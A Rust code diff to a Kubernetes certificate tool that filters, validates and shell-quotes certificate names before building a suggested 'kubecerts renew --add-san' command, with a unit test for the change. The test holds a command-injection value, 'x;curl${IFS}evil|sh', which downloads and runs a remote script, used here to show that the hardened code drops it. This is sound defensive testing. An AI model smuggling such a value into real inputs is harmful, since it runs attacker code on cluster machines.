@@ -16,6 +16,7 @@ use kubecerts_core::plan::{
 };
 use kubecerts_core::snapshot::ReadProblem;
 use kubecerts_core::time::Seconds;
+use kubecerts_core::x509::AlternativeName;
 use kubecerts_host::disk::{DiskError, LockError};
 use kubecerts_host::etcd::{BackupError, EtcdError, NoMember};
 use kubecerts_host::measure::MeasureError;
@@ -442,7 +443,13 @@ fn mend(remedy: &Remedy, shown_by: Option<&TreePath>, whereabouts: &Whereabouts)
     Some(match remedy {
         Remedy::Renew(slot) => format!("kubecerts renew {slot}{}", whereabouts.options),
         Remedy::AddNames(slot, names) => {
-            let names = names.iter().map(|name| format!(" --add-san {}", name.host())).collect::<String>();
+            // The names may be from a certificate of another node: what --add-san does not take is not offered.
+            let names = names.iter().filter(|name| matches!(name, AlternativeName::Dns(_) | AlternativeName::Ip(_)));
+            let names = names.map(AlternativeName::host).filter(|name| AlternativeName::parse_host(name).is_ok());
+            let names = names.map(|name| format!(" --add-san {}", quoted(&name))).collect::<String>();
+            if names.is_empty() {
+                return None;
+            }
             format!("kubecerts renew {slot}{names}{}", whereabouts.options)
         }
         Remedy::RotateAuthority(ca) => {
@@ -632,4 +639,26 @@ const FILE: &str = "FILE";
 
 fn list(items: &[impl ToString]) -> String {
     items.iter().map(ToString::to_string).collect::<Vec<_>>().join(", ")
+}
+
+#[cfg(test)]
+mod tests {
+    use kubecerts_core::catalog::LeafSlot;
+
+    use super::*;
+
+    #[test]
+    fn names_of_other_nodes_are_words_of_a_command_or_left_out() {
+        let hint = |names: &[AlternativeName]| {
+            let remedy = Remedy::AddNames(Slot::Leaf(LeafSlot::ApiServer), names.to_vec());
+            mend(&remedy, None, &Whereabouts::default())
+        };
+        let dns = |name: &str| AlternativeName::Dns(name.to_owned());
+        let evil = dns("x;curl${IFS}evil|sh");
+        assert_eq!(
+            hint(&[evil.clone(), dns("*.example.com"), AlternativeName::Ip([10, 0, 0, 1].into())]).as_deref(),
+            Some("kubecerts renew apiserver --add-san '*.example.com' --add-san 10.0.0.1")
+        );
+        assert_eq!(hint(&[evil, AlternativeName::Uri("spiffe://x".to_owned())]), None);
+    }
 }
